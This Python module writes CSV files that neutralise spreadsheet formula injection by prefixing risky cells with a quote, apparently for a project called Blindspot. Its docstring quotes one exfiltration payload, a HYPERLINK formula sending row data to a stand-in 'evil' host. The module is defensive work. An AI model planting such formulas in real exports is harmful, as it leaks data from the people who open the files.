"""CSV writers that neutralise spreadsheet formulas (CSV / formula injection).

A spreadsheet opening a CSV runs any cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in
some programs, one that starts with a tab or carriage return) as a formula:
``=HYPERLINK("http://evil/?"&A1, "click")`` leaks the row, ``=2+5`` shows 7. Student text is
attacker-controlled, so every CSV Blindspot writes goes through this module, which follows
OWASP's advice: such a cell gets a leading single quote (``'=2+5``), which spreadsheets display
as text and do not evaluate.

Decisions (see docs/exports.md):

* Only *strings* are escaped. Numbers that Blindspot computes (a negative kappa ``-0.12``, an
  index) are written as numbers: a Python ``int`` or ``float`` cannot carry a formula, and quoting
  it would turn a numeric column into text. The string ``"-2"`` in a text column *is* escaped
  (``'-2``), as OWASP says, because the writer cannot tell a number from text that looks like one.
* The escape is reversible: a string that already starts with quotes followed by a trigger
  character gets one more quote, so :func:`unescape_cell` gives back exactly the original.
* JSON and JSONL outputs are never touched: they are the lossless formats.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Mapping
from typing import Any

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_ESCAPED = re.compile(r"'+[=+\-@\t\r]")


def escape_cell(value: Any) -> Any:
    """``value`` safe for a spreadsheet: strings starting with a trigger get a leading quote."""
    if isinstance(value, str) and (value.startswith(TRIGGERS) or _ESCAPED.match(value)):
        return "'" + value
    return value


def unescape_cell(value: str) -> str:
    """The inverse of :func:`escape_cell` on strings (for reading a CSV Blindspot wrote)."""
    return value[1:] if _ESCAPED.match(value) else value


def escape_row(values: Iterable[Any]) -> list[Any]:
    return [escape_cell(v) for v in values]


class Writer:
    """``csv.writer`` whose rows are escaped (``csv.writer`` objects cannot be subclassed)."""

    def __init__(self, fh, *args: Any, **kwargs: Any) -> None:
        self._writer = csv.writer(fh, *args, **kwargs)

    @property
    def dialect(self):
        return self._writer.dialect

    def writerow(self, row: Iterable[Any]):
        return self._writer.writerow(escape_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(fh, *args: Any, **kwargs: Any) -> Writer:
    return Writer(fh, *args, **kwargs)


class DictWriter(csv.DictWriter):
    """``csv.DictWriter`` whose values are escaped (field names are the caller's constants)."""

    def writerow(self, rowdict: Mapping[str, Any]):
        return super().writerow({k: escape_cell(v) for k, v in rowdict.items()})

    def writerows(self, rowdicts: Iterable[Mapping[str, Any]]) -> None:
        for row in rowdicts:
            self.writerow(row)
